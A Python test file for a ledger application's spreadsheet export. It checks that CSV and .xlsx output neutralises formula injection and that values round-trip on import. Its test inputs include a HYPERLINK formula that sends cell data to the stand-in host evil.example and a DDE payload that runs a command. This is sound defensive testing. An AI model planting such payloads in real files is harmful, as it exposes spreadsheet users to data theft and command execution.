"""Exports are safe to open (issue 14): a cell that begins with = + - @, a tab or a carriage
return is written as text, never as a formula: in CSV with a leading ``'`` (OWASP's advice),
in .xlsx as a string cell. Reading back gives the original text."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from engine.clock import FakeClock
from engine.handlers import Actor
from engine.settings import Settings, build_engine
from handlers.ledger import Ledger
from handlers.ledger.io import export_file, import_file
from handlers.ledger.tabular import read_sheet, write_table
from tests.handlers.conftest import Record, workflow_files

RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["东昌路1号", "a=b", "'quoted by the user", "'plain"]


@pytest.fixture(params=["csv", "xlsx"])
def suffix(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def test_csv_cells_that_could_be_formulas_get_a_leading_quote(tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    write_table(out, ["值", "数"], [[v, -3.5] for v in RISKY + PLAIN])
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[2] == "'+1+cmd|' /C calc'!A0,-3.5"  # numbers stay numbers
    assert lines[3] == "'-2+3,-3.5"
    assert lines[4] == '"\'@SUM(1,2)",-3.5'
    assert lines[-4:] == ["东昌路1号,-3.5", "a=b,-3.5", "'quoted by the user,-3.5", "'plain,-3.5"]


def test_xlsx_cells_that_could_be_formulas_are_strings(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    write_table(out, ["值"], [[v] for v in RISKY + PLAIN])
    sheet = load_workbook(out).worksheets[0]  # not data_only: a formula would show as one
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * len(cells)
    # openpyxl's own XML reader takes a lone carriage return for a line feed, its lxml one
    # keeps it: the text, as .xlsx carries it either way
    assert [c.value.replace("\r", "\n") for c in cells] == [
        v.replace("\r", "\n") for v in RISKY + PLAIN
    ]


def test_reading_an_export_back_gives_the_original_text(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"t.{suffix}"
    values = [v for v in RISKY + PLAIN if not v[0].isspace()]  # import strips outer spaces
    write_table(out, ["值"], [[v] for v in values])
    assert [row[0] for _, row in read_sheet(out).rows] == values


def test_a_ledger_export_with_formula_text_round_trips(
    ledger: Ledger,
    admin: Actor,
    tmp_path: Path,
    record: Record,
    suffix: str,
    settings: Settings,
    clock: FakeClock,
) -> None:
    """An address a public reporter typed, a responsible party: exported as text, imported
    as the same text."""
    ledger.add(record(address=RISKY[0], responsible_party="@某化工公司"), admin)
    out = tmp_path / f"ledger.{suffix}"
    assert export_file(ledger, out) == 1
    if suffix == "xlsx":
        sheet = load_workbook(out).worksheets[0]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    else:
        assert f"'{RISKY[0]}".replace('"', '""') in out.read_text(encoding="utf-8-sig")
    before = {v.code: v.record for v in ledger.list()}
    fresh = replace(settings, database_url=f"sqlite:///{tmp_path / 'fresh.db'}")
    other = Ledger(build_engine(fresh, clock=clock))
    other.engine.load(workflow_files(settings))
    try:
        assert import_file(other, out, admin).added == 1
        assert {v.code: v.record for v in other.list()} == before
    finally:
        other.engine.store.dispose()
